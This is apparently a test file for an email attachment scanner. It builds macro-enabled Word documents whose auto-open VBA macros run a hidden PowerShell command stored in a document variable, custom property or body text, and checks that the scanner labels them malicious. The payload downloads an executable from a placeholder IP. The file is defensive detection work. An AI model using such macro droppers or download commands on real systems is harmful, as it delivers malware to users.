def test_lzma_parts_are_not_decompressed_in_one_unbounded_step() -> None:
    from mailcheck.analyzers.office.ooxml import Package

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>", compress_type=zipfile.ZIP_LZMA)
    package = Package(buffer.getvalue(), office.options_for(DEFAULT))
    assert package.read("xl/workbook.xml") is None
    assert "xl/workbook.xml" in package.skipped
    assert package.read("[Content_Types].xml") == b"<Types/>"


# --- payloads kept in the document, read by the macro ---------------------------------------------

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_PAYLOAD = "powershell -w hidden -c iwr http://198.51.100.7/a.exe -OutFile a.exe"


def with_parts(document: bytes, parts: dict[str, str]) -> bytes:
    """`document` with extra package parts (doc variables, custom properties...)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename not in parts:
                target.writestr(info, source.read(info))
        for name, text in parts.items():
            target.writestr(name, text)
    return out.getvalue()


def doc_variable(code: str) -> bytes:
    variable = f'<w:docVar w:name="p" w:val="{_PAYLOAD}"/>'
    settings = f"<w:settings {_W}><w:docVars>{variable}</w:docVars></w:settings>"
    return with_parts(
        build_docm(build_vba_project(document_code=code)), {"word/settings.xml": settings}
    )


def test_a_payload_in_a_document_variable_read_by_the_macro_is_a_dropper() -> None:
    code = 'Sub Document_Open()\n    Shell ActiveDocument.Variables("p").Value, 0\nEnd Sub\n'
    result = scan(doc_variable(code), "invoice.docm")
    assert "attachment.macro.autoexec_exec" in ids(result)
    assert result.verdict.label == "malicious"


def test_a_document_variable_the_macro_never_reads_is_not_evidence() -> None:
    code = 'Sub Document_Open()\n    Shell "notepad.exe", 1\nEnd Sub\n'
    result = scan(doc_variable(code), "invoice.docm")
    assert "attachment.macro.autoexec_exec" not in ids(result)


def test_a_payload_in_a_custom_property_or_the_body_text() -> None:
    custom = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
        ' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        f'<property name="c"><vt:lpwstr>{_PAYLOAD}</vt:lpwstr></property></Properties>'
    )
    by_property = (
        'Sub AutoOpen()\n    Shell ActiveDocument.CustomDocumentProperties("c"), 0\nEnd Sub\n'
    )
    document = build_docm(build_vba_project(document_code=by_property))
    assert "attachment.macro.autoexec_exec" in ids(
        scan(with_parts(document, {"docProps/custom.xml": custom}), "a.docm")
    )
    by_text = "Sub AutoOpen()\n    Shell ActiveDocument.Content.Text, 0\nEnd Sub\n"
    body = build_docm(build_vba_project(document_code=by_text), text=_PAYLOAD)
    assert "attachment.macro.autoexec_exec" in ids(scan(body, "b.docm"))
